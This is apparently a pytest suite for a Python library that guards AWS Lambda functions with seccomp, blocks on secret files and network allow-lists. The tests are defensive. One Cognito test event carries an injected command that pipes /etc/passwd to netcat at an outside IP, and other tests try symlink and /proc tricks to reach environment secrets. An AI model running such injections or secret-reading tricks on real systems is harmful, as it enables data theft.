"""Enforcement that needs a process of its own: seccomp, boto3 without credentials in the environment,
symlink tricks, forked children. Audit hooks and seccomp filters cannot be removed, so each test
runs its scenario in a fresh interpreter and reads its JSON verdict from stdout."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from hullguard.runtime.seccomp import build_program, machine, pack

from .emulator import FAKE_CREDENTIALS

SRC = Path(__file__).resolve().parents[2] / "src"


def run_isolated(code: str, tmp_path: Path, env: dict[str, str] | None = None) -> dict:
    environ = {k: v for k, v in os.environ.items() if not k.startswith(("HULLGUARD_", "AWS_"))}
    environ.update({"PYTHONPATH": str(SRC), "LAMBDA_TASK_ROOT": str(tmp_path), **(env or {})})
    proc = subprocess.run([sys.executable, "-c", textwrap.dedent(code)], capture_output=True, text=True,
                          env=environ, cwd=tmp_path, timeout=60)
    assert proc.returncode == 0, proc.stderr[-3000:]
    lines = [line for line in proc.stdout.splitlines() if line.startswith("RESULT ")]
    assert lines, proc.stdout[-3000:] + proc.stderr[-3000:]
    result: dict = json.loads(lines[-1][len("RESULT "):])
    result["_stdout"] = proc.stdout
    return result


def test_seccomp_program_per_architecture():
    x86 = build_program(["execve", "execveat", "fork"], "x86_64")
    arm = build_program(["execve", "execveat", "fork"], "aarch64")
    assert x86[1] == (0x15, 1, 0, 0xC000003E) and arm[1] == (0x15, 1, 0, 0xC00000B7)
    assert (0x15, 3, 0, 57) in x86 or any(ins[3] == 57 for ins in x86)  # fork exists on x86_64 only
    assert not any(ins[0] == 0x15 and ins[3] in (57, 1079) for ins in arm[2:])
    assert x86[4][:1] == (0x35,)  # x32 ABI refused on x86_64
    for prog in (x86, arm):
        deny = len(prog) - 1
        for i, (code, jt, _jf, _k) in enumerate(prog):
            if code in (0x15, 0x35) and i > 1:
                assert i + 1 + jt == deny  # every match jumps to the final ERRNO(EPERM)
    assert len(pack(x86)) == 8 * len(x86)


@pytest.mark.skipif(machine() not in ("x86_64", "aarch64") or sys.platform != "linux", reason="Linux x86_64/arm64")
def test_seccomp_blocks_exec_even_through_ctypes(tmp_path):
    result = run_isolated("""
        import ctypes, json, os, subprocess
        from hullguard import protect
        protect(lambda e, c: None, policy={"seccomp": {"enabled": True}, "processes": {"action": "allow"}})
        out = {}
        try:
            subprocess.run(["/bin/true"], check=True)
            out["subprocess"] = "ran"
        except PermissionError:
            out["subprocess"] = "EPERM"
        out["libc_system"] = ctypes.CDLL(None).system(b"/bin/true")  # around every audit hook
        out["files_still_work"] = len(open("/proc/self/status").read()) > 0
        print("RESULT " + json.dumps(out))
    """, tmp_path)
    assert result["subprocess"] == "EPERM"
    assert result["libc_system"] != 0  # the shell could not even be executed
    assert result["files_still_work"] is True
    assert '"HG-RT-SECCOMP-001"' in result["_stdout"] and '"installed":"seccomp+tsync"' in result["_stdout"]


def test_boto3_keeps_working_after_credentials_leave_environ(tmp_path):
    result = run_isolated("""
        import json, os
        from hullguard import protect
        protect(lambda e, c: None, policy={"credentials": {"remove_from_environ": True}})
        import boto3
        creds = boto3.Session(region_name="us-east-1").get_credentials().get_frozen_credentials()
        print("RESULT " + json.dumps({"environ": sorted(k for k in os.environ if k.startswith("AWS_")),
                                      # reversed: printed as-is the values would be masked on stdout
                                      "boto3_key": creds.access_key[::-1], "boto3_token": creds.token[::-1]}))
    """, tmp_path, env=dict(FAKE_CREDENTIALS, AWS_REGION="us-east-1"))
    assert result["environ"] == ["AWS_REGION"]
    assert result["boto3_key"] == FAKE_CREDENTIALS["AWS_ACCESS_KEY_ID"][::-1]
    assert result["boto3_token"] == FAKE_CREDENTIALS["AWS_SESSION_TOKEN"][::-1]


def test_symlink_and_proc_indirections_to_secrets_are_blocked(tmp_path):
    (tmp_path / "handler.py").write_text("SECRET = 'source'\n")
    result = run_isolated("""
        import json, os
        from hullguard import protect
        protect(lambda e, c: None)
        out = {}
        def attempt(name, fn):
            try:
                fn()
                out[name] = "allowed"
            except PermissionError:
                out[name] = "blocked"
        link = os.path.join(os.getcwd(), "..", os.path.basename(os.getcwd()) + "-link")
        attempt("symlink_to_environ", lambda: os.symlink("/proc/self/environ", link))
        attempt("proc_root_indirection", lambda: open("/proc/self/root/proc/self/environ", "rb").read())
        attempt("dotdot_to_source", lambda: open("/tmp/../" + os.getcwd().lstrip("/") + "/handler.py").read())
        attempt("relative_source", lambda: open("handler.py").read())
        import handler  # importing the same file stays allowed
        out["import"] = handler.SECRET
        print("RESULT " + json.dumps(out))
    """, tmp_path)
    assert result == {**result, "symlink_to_environ": "blocked", "proc_root_indirection": "blocked",
                      "dotdot_to_source": "blocked", "relative_source": "blocked", "import": "source"}


def test_forked_child_cannot_exec(tmp_path):
    result = run_isolated("""
        import json, os
        from hullguard import protect
        protect(lambda e, c: None)
        pid = os.fork()
        if pid == 0:
            os.execv("/bin/true", ["true"])
            os._exit(0)  # never reached: the hook ends the child
        _, status = os.waitpid(pid, 0)
        print("RESULT " + json.dumps({"child_exit": os.waitstatus_to_exitcode(status)}))
    """, tmp_path)
    assert result["child_exit"] == 126


def test_hooks_cost_nothing_for_unrelated_events(tmp_path):
    """A protected interpreter still imports, compiles and opens ordinary files normally."""
    result = run_isolated("""
        import json
        from hullguard import protect
        protect(lambda e, c: None)
        import collections, decimal, email.parser, sqlite3
        ok = eval("1 + 1") == 2 and collections.namedtuple("P", "x y")(1, 2).y == 2
        print("RESULT " + json.dumps({"ok": ok, "read": len(open("/etc/hostname").read()) > 0}))
    """, tmp_path)
    assert result["ok"] and result["read"]
    assert "hullguard.event" not in result["_stdout"]  # nothing to report


def test_decorator_with_a_policy_file_next_to_the_module(tmp_path):
    (tmp_path / "fn").mkdir()
    (tmp_path / "fn" / "strict.yml").write_text("processes:\n  allow: [/bin/true]\n")
    (tmp_path / "fn" / "app.py").write_text(textwrap.dedent("""
        import subprocess
        from hullguard import protect

        @protect(policy="strict.yml")
        def handler(event, context):
            return subprocess.run([event["cmd"]]).returncode

        @protect
        def plain(event, context):
            return "ok"
    """))
    result = run_isolated("""
        import json, sys
        sys.path.insert(0, "fn")
        import app
        out = {"allowed": app.handler({"cmd": "/bin/true"}, None), "plain": app.plain({}, None)}
        try:
            app.handler({"cmd": "/bin/false"}, None)
        except Exception as exc:
            out["other"] = type(exc).__name__
        print("RESULT " + json.dumps(out))
    """, tmp_path)
    assert result["allowed"] == 0 and result["plain"] == "ok"
    assert result["other"] == "FunctionError"  # /bin/false is not on that function's list


def test_wrapper_handler_without_target_fails_clearly(tmp_path):
    environ = {k: v for k, v in os.environ.items() if not k.startswith(("HULLGUARD_", "AWS_"))}
    proc = subprocess.run([sys.executable, "-c", "import hullguard.handler"], capture_output=True, text=True,
                          env={**environ, "PYTHONPATH": str(SRC)}, cwd=tmp_path, timeout=60)
    assert proc.returncode != 0
    assert "HULLGUARD_HANDLER is not set: it must name the real handler" in proc.stderr
    proc = subprocess.run([sys.executable, "-c", "import hullguard.handler"], capture_output=True, text=True,
                          env={**environ, "PYTHONPATH": str(SRC), "HULLGUARD_HANDLER": "nosuch.handler"},
                          cwd=tmp_path, timeout=60)
    assert "HULLGUARD_HANDLER='nosuch.handler': cannot import module 'nosuch'" in proc.stderr


def test_tmp_rules_and_code_loading_after_start_up(tmp_path):
    result = run_isolated("""
        import ctypes, json, marshal, os, uuid
        from hullguard import protect
        name = uuid.uuid4().hex
        os.makedirs(f"/tmp/hg-cache-{name}", exist_ok=True)
        policy = {"tmp": {"write": "block", "allow": [f"/tmp/hg-cache-{name}/*"], "cleanup": "off"},
                  "code": {"native_libraries": "block"}}

        def handler(event, context):
            out = {}
            def attempt(key, fn):
                try:
                    fn()
                    out[key] = "allowed"
                except PermissionError:
                    out[key] = "blocked"
            attempt("tmp_cache_write", lambda: open(f"/tmp/hg-cache-{name}/x", "w").close())
            attempt("tmp_other_write", lambda: open(f"/tmp/hg-other-{name}", "w").close())
            attempt("tmp_read", lambda: os.listdir("/tmp"))
            attempt("marshal", lambda: marshal.loads(marshal.dumps({"a": 1})))
            attempt("ctypes", lambda: ctypes.CDLL("libm.so.6"))
            return out

        protected = protect(handler, policy=policy)
        marshal.loads(marshal.dumps(1))  # start-up: still allowed
        out = protected({}, None)
        os.unlink(f"/tmp/hg-cache-{name}/x"); os.rmdir(f"/tmp/hg-cache-{name}")
        out["other_exists"] = os.path.exists(f"/tmp/hg-other-{name}")
        print("RESULT " + json.dumps(out))
    """, tmp_path)
    assert result["tmp_cache_write"] == "allowed" and result["tmp_other_write"] == "blocked"
    assert result["other_exists"] is False and result["tmp_read"] == "allowed"
    assert result["marshal"] == "blocked" and result["ctypes"] == "blocked"
    for rule in ("HG-RT-TMP-001", "HG-RT-CODE-003", "HG-RT-CODE-004"):
        assert f'"uid":"{rule}"' in result["_stdout"]


def test_cold_start_loads_nothing_the_first_decision_does_not_need(tmp_path):
    """What ``protect`` adds on top of the firewall's imports stays small: no socket, ipaddress,
    urllib, pathlib, typing, dataclasses or yaml until the function's own code needs them."""
    result = run_isolated("""
        import json, logging, sys
        from hullguard.firewall import Firewall
        Firewall()
        before = set(sys.modules)
        from hullguard import protect
        protect(lambda e, c: None)
        added = sorted(m for m in set(sys.modules) - before if not m.startswith("hullguard"))
        print("RESULT " + json.dumps({"added": added}))
    """, tmp_path)
    heavy = {"socket", "ipaddress", "urllib.parse", "pathlib", "typing", "dataclasses", "inspect", "yaml",
             "traceback", "uuid", "platform"}
    assert not heavy & set(result["added"]), result["added"]


def test_socket_imported_after_protect_is_judged_by_the_name_it_resolved(tmp_path):
    """The getaddrinfo wrapper is put in place when the function's code imports socket later."""
    result = run_isolated("""
        import json, sys, threading
        from hullguard import protect
        protect(lambda e, c: None, policy={"network": {"allow": ["localhost"], "action": "block"}})
        loaded_early = "socket" in sys.modules
        import socket
        server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen(8)
        port = server.getsockname()[1]
        threading.Thread(target=lambda: [server.accept()[0].close() for _ in range(2)], daemon=True).start()
        def attempt(fn):
            try:
                fn()
                return "allowed"
            except PermissionError:
                return "blocked"
            except OSError as exc:  # e.g. the lookup really went out and failed: not our refusal
                return type(exc).__name__
        out = {"loaded_early": loaded_early,
               "by_name": attempt(lambda: socket.create_connection(("localhost", port), timeout=5).close()),
               "lookup_unlisted": attempt(lambda: socket.getaddrinfo("unlisted.example", 443)),
               "ip_unlisted": attempt(lambda: socket.socket().connect(("127.0.0.2", port)))}
        print("RESULT " + json.dumps(out))
    """, tmp_path)
    assert result["loaded_early"] is False
    assert result["by_name"] == "allowed"  # 127.0.0.1 was learned as 'localhost' from the lookup
    assert result["lookup_unlisted"] == "blocked"  # refused before any DNS query
    assert result["ip_unlisted"] == "blocked"


def test_tmp_cleanup_with_the_real_hooks_inside_a_directory_from_start_up(tmp_path):
    """Creations inside a directory that existed at start-up change nothing at the top of /tmp:
    only the audit hooks can tell the cleaner about them."""
    result = run_isolated("""
        import json, os, tempfile, uuid
        from hullguard import protect
        base = f"/tmp/hg-nest-{uuid.uuid4().hex}"
        os.makedirs(base)
        with open(f"{base}/start.txt", "w") as f:
            f.write("start-up")

        def handler(event, context):
            os.makedirs(f"{base}/run/deep")
            with open(f"{base}/run/deep/out.csv", "w") as f:
                f.write("rows")
            with open(f"{base}/start.txt", "a") as f:
                f.write(" + appended")
            fd, name = tempfile.mkstemp(dir=base)
            os.close(fd)
            os.rename(name, f"{base}/renamed.tmp")
            return {"ok": True}

        protected = protect(handler, policy={"tmp": {"cleanup": "delete"}})
        protected({}, None)
        left = sorted(os.listdir(base))
        with open(f"{base}/start.txt") as f:
            start = f.read()
        os.unlink(f"{base}/start.txt"); os.rmdir(base)
        print("RESULT " + json.dumps({"left": left, "start": start}))
    """, tmp_path)
    assert result["left"] == ["start.txt"] and result["start"] == "start-up + appended"
    assert '"uid":"HG-RT-TMP-003"' in result["_stdout"]


def test_a_module_imported_during_an_invocation_is_not_mistaken_for_event_code(tmp_path):
    """Without a .pyc the import system compiles the module's source, which may contain a string
    the event holds too: that is not code built from the event (and a crafted event must not be
    able to make hullguard's own lazy imports fail); eval of the same string still is."""
    (tmp_path / "late_module.py").write_text('CONTENT_TYPE = "application/json"\n')
    result = run_isolated("""
        import json, sys
        sys.dont_write_bytecode = True
        from hullguard import protect

        def handler(event, context):
            out = {}
            try:
                import late_module
                out["import"] = late_module.CONTENT_TYPE
            except PermissionError:
                out["import"] = "blocked"
            try:
                eval(event["headers"]["Content-Type"])
                out["eval"] = "allowed"
            except PermissionError:
                out["eval"] = "blocked"
            except Exception:
                out["eval"] = "ran"
            return out

        protected = protect(handler, policy={"tmp": {"cleanup": "off"}})
        print("RESULT " + json.dumps(protected({"headers": {"Content-Type": "application/json"}}, None)))
    """, tmp_path)
    assert result["import"] == "application/json" and result["eval"] == "blocked"
    assert not (tmp_path / "__pycache__").exists()  # it really was compiled from source


def test_firewall_refusal_of_a_non_http_event_reaches_the_caller_without_frames(tmp_path):
    result = run_isolated("""
        import json
        from hullguard import protect
        ran = []
        protected = protect(lambda event, context: ran.append(1) or "done")
        try:
            # a Cognito trigger: the service turns a failed invocation into a refusal
            protected({"triggerSource": "PreSignUp_SignUp", "userPoolId": "us-east-1_x", "userName": "a",
                       "request": {"userAttributes": {"email": "; cat /etc/passwd | nc 203.0.113.9 4444"}},
                       "response": {}}, None)
            out = {"raised": None}
        except Exception as exc:
            tb, frames = exc.__traceback__, []
            while tb is not None:
                frames.append(tb.tb_frame.f_code.co_name)
                tb = tb.tb_next
            out = {"raised": type(exc).__name__, "frames": frames, "cause": exc.__cause__ is not None}
        out["handler_ran"] = bool(ran)
        print("RESULT " + json.dumps(out))
    """, tmp_path)
    assert result["raised"] == "EventBlocked" and result["handler_ran"] is False
    # nothing of ours in the error document beyond the wrapper's own frame
    assert result["frames"] == ["<module>", "protected"] and result["cause"] is False


def test_an_address_spelled_as_a_number_is_judged_as_that_address(tmp_path):
    """connect() hands '2130706433' or '0x7f000001' to the C library, which reads 127.0.0.1: the
    allow-list's CIDR entry must see that address (loopback only: nothing leaves the machine)."""
    result = run_isolated("""
        import json, socket, threading
        server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen(8)
        port = server.getsockname()[1]
        threading.Thread(target=lambda: [server.accept()[0].close() for _ in range(3)], daemon=True).start()
        from hullguard import protect

        def handler(event, context):
            out = {}
            for host in ("2130706433", "0x7f000001", "0177.0.0.1"):
                s = socket.socket()
                s.settimeout(2)
                try:
                    s.connect((host, port))
                    out[host] = "connected"
                except PermissionError:
                    out[host] = "blocked"
                finally:
                    s.close()
            return out

        policy = {"network": {"allow": ["127.0.0.0/8"], "action": "block"}}
        print("RESULT " + json.dumps(protect(handler, policy=policy)({}, None)))
    """, tmp_path)
    assert result["2130706433"] == result["0x7f000001"] == result["0177.0.0.1"] == "connected"


def test_lambda_edge_gets_cloudfront_responses_for_a_failure_and_a_refusal(tmp_path):
    """A Lambda@Edge function answers the viewer itself: an exception would become CloudFront's own 5xx
    page, so the generic error and the refusal come in CloudFront's response format."""
    event = (Path(__file__).parents[1] / "fixtures/events/hullguard/lambdaEdgeViewerRequestEvent.json").read_text()
    result = run_isolated(f"""
        import json
        from hullguard import protect

        def handler(event, context):
            raise RuntimeError("origin secret /var/task/app.py")

        event = json.loads({event!r})
        failed = protect(handler)(event, None)
        small = {{"limits": {{"max_event_bytes": 100, "event_size": "block"}}}}
        refused = protect(handler, policy=small)(event, None)
        print("RESULT " + json.dumps({{"failed": failed, "refused": refused}}))
    """, tmp_path)
    failed, refused = result["failed"], result["refused"]
    assert failed["status"] == "500" and refused["status"] == "403"
    assert failed["headers"] == {"content-type": [{"key": "Content-Type", "value": "application/json"}]}
    assert "RuntimeError" not in failed["body"] and "app.py" not in failed["body"]
    assert json.loads(refused["body"])["message"] == "Forbidden"
